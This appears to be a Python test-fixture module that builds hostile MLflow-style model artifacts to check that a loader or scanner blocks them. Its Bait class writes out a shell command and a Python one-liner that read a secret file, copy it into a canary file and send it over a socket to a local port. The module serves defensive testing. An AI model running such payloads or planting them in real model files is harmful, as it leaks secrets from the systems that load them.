"""Hostile models, made when they are asked for: what each would do if it ran, and where it shall have been stopped."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Bait:
    """What the models are after: a file to make, a secret to read, and a port to call."""

    canary: Path
    secret: Path
    port: int

    @property
    def command(self) -> str:
        """For a shell."""
        return f"cat {self.secret} >> {self.canary}; exec 3<>/dev/tcp/127.0.0.1/{self.port}"

    @property
    def code(self) -> str:
        """For Python."""
        return (
            f"import socket; open({str(self.canary)!r}, 'a').write(open({str(self.secret)!r}).read());"
            f"socket.create_connection(('127.0.0.1', {self.port})).sendall(open({str(self.secret)!r}, 'rb').read())"
        )


@dataclass(frozen=True)
class Artifact:
    """One hostile model: `make` fills its empty folder, `told` is a part of the reason that people shall read."""

    kind: str
    name: str
    make: Callable[[Path, Bait], None]
    told: str = ""

    def __str__(self) -> str:
        return f"{self.kind}: {self.name}"


CARD = "flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: pickle\n"


def in_model(data: Callable[[Bait], bytes], file: str = "model.pkl", card: str = CARD) -> Callable[[Path, Bait], None]:
    """Fills a folder with an MLmodel and one file."""

    def make(folder: Path, bait: Bait) -> None:
        (folder / "MLmodel").write_text(card)
        (folder / file).parent.mkdir(parents=True, exist_ok=True)
        (folder / file).write_bytes(data(bait))

    return make


def everything() -> list[Artifact]:
    """All of them, each name once."""
    from tests.hostile import archives, cards, flavors, graphs, links, pickles

    found = [
        artifact for module in (pickles, archives, flavors, cards, graphs, links) for artifact in module.artifacts()
    ]
    assert len({str(artifact) for artifact in found}) == len(found)
    return found


Artifacts = Iterator[Artifact]
